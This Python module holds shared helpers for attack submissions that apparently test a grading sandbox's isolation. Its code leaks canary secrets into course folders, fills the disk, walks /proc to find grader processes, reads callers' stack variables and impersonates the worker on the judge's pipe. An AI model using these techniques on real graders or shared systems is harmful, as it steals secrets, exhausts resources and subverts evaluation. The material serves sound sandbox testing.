"""What our attacks share: where things lie, and every road by which they give out what they find.

Its text is put in the place of the line by which a submission imports it: what is handed in is one file.
"""

import base64
import contextlib
import ctypes
import json
import os
import re
import struct
import sys
import time
from pathlib import Path

# Told to every attack: the wall must hold against who has guessed all paths.
WORLD = Path("@WORLD@")
NAME = "@NAME@"
PRIVATE = WORLD / "course/reference/01_demo/01_double"
SIBLING = WORLD / f"class/{NAME}_then_good"

MARK = "EVIDENCE"
MEGABYTE = 1 << 20
CANARY = re.compile(rb"canary-[0-9a-f]{12}")
libc = ctypes.CDLL(None, use_errno=True)
found = []
claims = set()


def claim(what):
    """Says that something was possible which should not be."""
    if what not in claims:
        claims.add(what)
        print(MARK, what, flush=True)


def loot(data):
    """Gives out every canary in what was read."""
    for secret in sorted(set(CANARY.findall(data))):
        give_out(secret.decode())


def give_out(secret):
    """Prints a secret in several disguises and leaves it inside and outside of the folder."""
    found.append(secret)
    text = secret.encode()
    for form in (secret, secret[::-1], text.hex(), base64.b64encode(text).decode()):
        print(form, flush=True)
    for folder in (Path.cwd(), WORLD / "drop", SIBLING, WORLD / "class", WORLD / "marks", PRIVATE):
        with contextlib.suppress(OSError):
            (folder / f"{NAME}.loot").write_text(secret)


def plead():
    """Gives out what was found in a call: in the words of an error, in the name of a class, as the value."""
    if not found:
        return None
    found.append(found[0])
    if len(found) % 3 == 0:
        raise ValueError(found[0])
    if len(found) % 3 == 1:
        raise type(found[0], (Exception,), {})
    return found[0]


def fill_disk(named=True):
    """Writes 160 MB, in files as large as they may be, and says so where nobody has ended it before."""
    total, kept = 0, []
    for number in range(40):
        with contextlib.suppress(OSError):
            kept.append(open(f"fill-{number}", "wb", buffering=0))  # noqa: SIM115  # to be held open
            if not named:
                os.unlink(kept[-1].name)
            while total < 160 * MEGABYTE and kept[-1].write(bytes(MEGABYTE)):
                total += MEGABYTE
    time.sleep(0.3)
    if total > 128 * MEGABYTE:
        claim(f"{total // MEGABYTE} MB of disk can be filled")


def read(path):
    """Returns the beginning of a file, or nothing where it cannot be read."""
    with contextlib.suppress(OSError), open(path, "rb") as stream:
        return stream.read(1 << 20)
    return b""


def forebears():
    """Returns the processes that grade, up to the command: never one that is not of this run."""
    pids = []
    pid = os.getppid()
    while any(word in read(f"/proc/{pid}/cmdline") for word in (b"isolation.nursery", bytes(WORLD))):
        pids.append(pid)
        pid = int(re.search(rb"PPid:\s*(\d+)", read(f"/proc/{pid}/status"))[1])
    return pids


def relatives():
    """Returns the forebears and their children, such as judges, without ourselves."""
    pids = forebears()
    for path in Path("/proc").glob("[0-9]*/status"):
        parent = re.search(rb"PPid:\s*(\d+)", read(path))
        if parent and int(parent[1]) in pids and int(path.parent.name) != os.getpid():
            pids.append(int(path.parent.name))
    return pids


def locals_above():
    """Yields the variables of every function that called us."""
    frame = sys._getframe(1)
    while frame := frame.f_back:
        yield frame.f_locals


def frame(message, blob=b""):
    """Returns a message, or a text in its place, as it crosses the wire."""
    text = message if isinstance(message, str) else json.dumps(message, ensure_ascii=False)
    return struct.pack("<IQ", len(text.encode()), len(blob)) + text.encode() + blob


def tagged(**pairs):
    """Returns a dict in the form in which the wire writes it."""
    return {"dict": [[word, value] for word, value in pairs.items()]}


def reply(number, **pairs):
    """Returns a reply to the request of that number."""
    return tagged(id={"int": hex(number)}, **pairs)


def request_number():
    """Returns the number of the request that is being answered."""
    return next(names["number"] for names in locals_above() if "number" in names)


def take_over(answer):
    """Serves the judge in the worker's place: `answer` makes a frame of a request's number and the name it asks for."""
    number, name = request_number(), None
    while True:
        data = memoryview(answer(number, name))
        while data:
            data = data[os.write(3, data) :]
        header, blob = struct.unpack("<IQ", receive(12))
        request = dict(json.loads(receive(header))["dict"])
        receive(blob)
        number, name = int(request["id"]["int"], 16), request.get("name")


def receive(count):
    """Returns exactly that many bytes from the judge, or ends when it has hung up."""
    data = b""
    while len(data) < count:
        chunk = os.read(3, count - len(data))
        if not chunk:
            os._exit(0)
        data += chunk
    return data
